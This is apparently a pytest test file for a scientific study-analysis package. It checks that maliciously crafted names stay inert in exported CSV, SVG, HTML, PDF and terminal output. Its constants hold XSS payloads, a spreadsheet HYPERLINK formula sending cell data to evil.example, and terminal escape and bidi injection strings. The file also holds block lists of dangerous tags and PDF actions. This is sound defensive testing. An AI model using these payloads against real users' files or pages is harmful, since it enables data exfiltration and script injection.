"""Names made to do harm, followed from the study into every file of the results."""

# ruff: noqa: E501  examples are read along their lines

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import altair as alt
import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rechallenge import cli, hidden, outputs, pipeline
from rechallenge.report.export import export
from rechallenge.spreadsheet import cell, csv_text

SCRIPT = "</script><script>alert(1)</script>"
IMAGE = '"><img src=http://evil.example/x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/"&A1;"x")'
HIDDEN = "AKR1B1\u202e\u2066\x07\x1b[2J"
TEMPLATE = "{{ 7 * 7 }}{% raw %}${7*7}"
LONG = "x" * 5000
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\t\r"


# spreadsheets -----------------------------------------------------------------------------------------------------


def cells_as_seen(text: str, separator: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for c in row]


def runs(seen: str) -> bool:
    """Whether a spreadsheet takes this cell for a formula: it begins like one and is no number."""
    seen = seen.lstrip(' "\u00a0\n')
    return bool(seen) and seen[0] in SIGNS and not re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?|[+-]?inf", seen)


@settings(max_examples=150, deadline=None, derandomize=True)
@given(st.lists(st.text(alphabet="=+-@;,\t\r\n \"'a1.e＝＠", max_size=9), min_size=1, max_size=3))
def test_no_cell_is_run_whatever_the_spreadsheet_takes_for_a_separator(texts: list[str]) -> None:
    text = csv_text(pd.DataFrame({"name": texts, "value": [-1.5] * len(texts)}))
    assert text.encode().decode() == text and "\r" not in text
    assert not [c for c in cells_as_seen(text, ",") if runs(c)]
    # a spreadsheet set to semicolons sees one column and parts it there; quotation marks within are plain signs to it
    parts = [p.rstrip('"') for line in text.split("\n") for p in re.split(r"[;\t]", line)]
    assert not [p for p in parts if runs(p.removesuffix(",-1.5")) and not p.startswith('"",')], parts


@given(st.floats(allow_nan=False) | st.integers(-(2**53), 2**53))
@settings(max_examples=60, deadline=None, derandomize=True)
def test_numbers_come_back_as_they_were(value: float) -> None:
    for column in ([value], [str(value)], pd.Series([value], dtype=object)):
        text = csv_text(pd.DataFrame({"x": column}))
        assert float(text.split("\n")[1]) == value


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"), ("+IL6", "'+IL6"), ("-1.5", "-1.5"), ("+3", "+3"), ("-inf", "-inf"), ("@x", "'@x"),
        (" =1", "' =1"), ("\t=1", "'\t'=1"), ("\r=1", "\n'=1"), ("＝1", "'＝1"), ("a;=1", "a;'=1"), ("a; -0.5; b", "a; -0.5; b"),
        ("a\n@b", "a\n'@b"), ("CD44+", "CD44+"), ("p = 1", "p = 1"), ("a, =1", "a, =1"), ("x\u202ey\x00", "xy"), ("", ""),
    ],
)  # fmt: skip
def test_what_a_cell_becomes(text: str, written: str) -> None:
    assert cell(text) == written


def test_every_csv_of_a_figure_is_safe() -> None:
    frame = pd.DataFrame({FORMULA: [1.0, 2.0], "name": [FORMULA, SCRIPT]})
    chart = alt.Chart(frame).mark_point().encode(alt.X("name:N"), alt.Y(alt.repeat("row"), type="quantitative"))
    chart = alt.Chart(frame.rename(columns={FORMULA: "value"})).mark_point().encode(x="name:N", y="value:Q")
    made = export("x", chart)
    assert not [c for c in cells_as_seen(made["csv"].decode(), ",") if runs(c)]


# figures ----------------------------------------------------------------------------------------------------------


def safe_svg(data: bytes) -> ElementTree.Element:
    """The picture, after a look for whatever a viewer would run or fetch."""
    text = data.decode()
    assert "<!ENTITY" not in text and "<!DOCTYPE" not in text
    root = ElementTree.fromstring(text)
    for element in root.iter():
        tag = element.tag.rsplit("}", 1)[-1]
        assert tag not in ("script", "foreignObject", "iframe", "a", "animate", "set", "use"), tag
        for name, value in element.attrib.items():
            assert not name.rsplit("}", 1)[-1].lower().startswith("on"), name
            if name.rsplit("}", 1)[-1] == "href":
                assert value.startswith(("data:image/png", "#")), value
            assert "url(http" not in value and "javascript:" not in value
    return root


def safe_spec(spec: Any) -> None:
    """A Vega-Lite specification that holds its data and fetches nothing."""
    if isinstance(spec, dict):
        for key, value in spec.items():
            if key in ("url", "href"):
                raise AssertionError(f"{key}: {value}")
            if key not in ("datasets", "values", "usermeta", "$schema"):
                safe_spec(value)
    elif isinstance(spec, list):
        for value in spec:
            safe_spec(value)


def test_hostile_labels_are_text_in_a_figure() -> None:
    names = [SCRIPT, IMAGE, FORMULA, HIDDEN, TEMPLATE, LONG]
    frame = pd.DataFrame({"name": names, "value": np.arange(6.0)})
    made = export("x", alt.Chart(frame, title=SCRIPT).mark_bar().encode(y="name:N", x=alt.X("value:Q", title=HIDDEN)))
    root = safe_svg(made["svg"])
    assert SCRIPT in "".join(root.itertext()), "and it can still be read"
    assert hidden.without(made["svg"].decode()) == made["svg"].decode()
    safe_spec(json.loads(made["json"]))


# the terminal -----------------------------------------------------------------------------------------------------


def test_names_cannot_steer_the_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "study.toml").write_text(
        '[study]\ntitle = "x"\n[models]\n"a\\u001b[2J\\u202e" = { role = "resistant" }\n[tables]\n'
        'viability = "\\u001b]0;owned\\u0007.csv"\n'
    )
    with pytest.raises(SystemExit):
        cli.main(["check", str(tmp_path)])
    said = capsys.readouterr()
    assert "\\x1b" in said.err
    assert hidden.without(said.err + said.out) == said.err + said.out


# a whole study ----------------------------------------------------------------------------------------------------


class Page(HTMLParser):
    """Elements of a page with their attributes, and what it would fetch by itself."""

    FETCH = ("src", "srcset", "data", "poster", "action", "formaction", "background", "manifest", "ping", "xlink:href")

    def __init__(self, text: str):
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[str] = []
        self.styles: list[str] = []
        self._in = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attributes}))
        self._in = tag

    def handle_data(self, data: str) -> None:
        if self._in in ("script", "style"):
            (self.scripts if self._in == "script" else self.styles).append(data)

    def handle_endtag(self, tag: str) -> None:
        self._in = ""


def safe_page(text: str) -> Page:
    page = Page(text)
    for tag, attributes in page.elements:
        assert tag not in ("iframe", "object", "embed", "base", "frame", "applet", "portal", "audio", "video"), tag
        for name, value in attributes.items():
            assert not name.startswith("on") and name != "style", (tag, name)
            if name in Page.FETCH:
                assert value.startswith("data:image/"), (tag, name, value[:80])
            if name == "href":
                assert not re.match(r"\s*(javascript|data|vbscript|file):", value, re.IGNORECASE)
                assert tag == "a" or value.startswith(("#", "data:image/")), (tag, value[:80])
    assert not [s for s in page.styles if "url(" in s.replace("url(data:", "") or "@import" in s]
    policy = [
        a["content"] for t, a in page.elements if t == "meta" and a.get("http-equiv") == "Content-Security-Policy"
    ]
    assert len(policy) == 1 and "default-src 'none'" in policy[0] and "http" not in policy[0]
    return page


def quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=True)


def study(folder: Path) -> Path:
    """A study of plates and read-outs in which every name does its worst."""
    folder.mkdir()
    parent, line = f"P {SCRIPT}", f"R {HIDDEN} {FORMULA}"
    drugs = (FORMULA, f"len {IMAGE}")
    rows = [
        {"model": m, "drug": d, "dose_um": dose, "replicate": f"{r} {TEMPLATE}",
         "viability": 1 / (1 + dose / (1 + 4 * (m == line))) + 0.01 * r}
        for m in (parent, line) for d in drugs for r in (1, 2, 3) for dose in (0.01, 0.1, 1, 10, 100)
    ]  # fmt: skip
    name = "@SUM(1+1)<img src=x onerror=alert(1)>\uff0c:-1.csv"
    pd.DataFrame(rows).to_csv(folder / name, index=False)
    pd.DataFrame(
        [{"assay": a, "model": parent, "group": g, "replicate": r, "value": 10 + 5 * (g != "control") + r, "unit": "-cmd",
          "gene": g, "note": LONG}
         for a in (FORMULA, SCRIPT) for g in ("control", IMAGE, FORMULA) for r in (1, 2, 3)]
    ).to_csv(folder / "m.csv", index=False)  # fmt: skip
    (folder / "study.toml").write_text(
        f"[study]\ntitle = {quoted(SCRIPT + IMAGE + FORMULA + HIDDEN)}\ndescription = {quoted(TEMPLATE + SCRIPT)}\n"
        f"authors = [{quoted(IMAGE)}, {quoted(FORMULA)}]\ntherapies = [{quoted(drugs[0])}, {quoted(drugs[1])}]\n"
        f"[models]\n{quoted(parent)} = {{ role = \"parental\", note = {quoted(SCRIPT)} }}\n"
        f"{quoted(line)} = {{ role = \"resistant\", parent = {quoted(parent)}, selected_with = {quoted(drugs[0])} }}\n"
        f"[tables]\nviability = {quoted(name)}\nmeasurements = \"m.csv\"\n",
        encoding="utf-8",
    )  # fmt: skip
    return folder


@pytest.mark.slow
def test_hostile_names_through_a_whole_run(tmp_path: Path) -> None:
    folder = study(tmp_path / "study")
    record = pipeline.run(folder, tmp_path / "out")
    outputs.write(record)
    assert not record.failed, [(s.name, s.reason) for s in record.failed]
    assert {"curves", "resistance_index", "measurement_contrasts"} & {s.name for s in record.steps if s.state == "done"}
    text = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    safe_page(text)
    assert "alert(1)" in text, "the names are there, as text"
    assert hidden.without(text) == text
    kinds: set[str] = set()
    for path in (tmp_path / "out").rglob("*"):
        if not path.is_file() or ".store" in path.parts:
            continue
        data = path.read_bytes()
        kinds.add(path.suffix)
        assert str(tmp_path).encode() not in data, f"{path.name} names a place on this machine"
        if path.suffix == ".csv":
            bad = [c for c in cells_as_seen(data.decode(), ",") if runs(c)]
            assert not bad, (path.name, bad[:3])
            assert len(pd.read_csv(io.BytesIO(data), dtype=str)) >= 0
        elif path.suffix == ".svg":
            safe_svg(data)
        elif path.suffix in (".json", ".jsonld"):
            json.loads(data)
        elif path.suffix == ".pdf":
            assert not re.search(rb"/(JavaScript|JS|Launch|URI|OpenAction|EmbeddedFile)\b", data)
    assert {".csv", ".svg", ".pdf", ".png", ".json", ".html", ".md", ".parquet"} <= kinds
    methods = (tmp_path / "out" / "methods.md").read_text(encoding="utf-8")
    assert "<script" not in methods.replace("\\<script", "") and "<img" not in methods.replace("\\<img", "")
    for path in (tmp_path / "out" / "tables").glob("*.parquet"):
        twin = pd.read_csv(path.with_suffix(".csv"), dtype=str, keep_default_na=False)
        assert len(twin) == len(pd.read_parquet(path)), "nothing is lost"
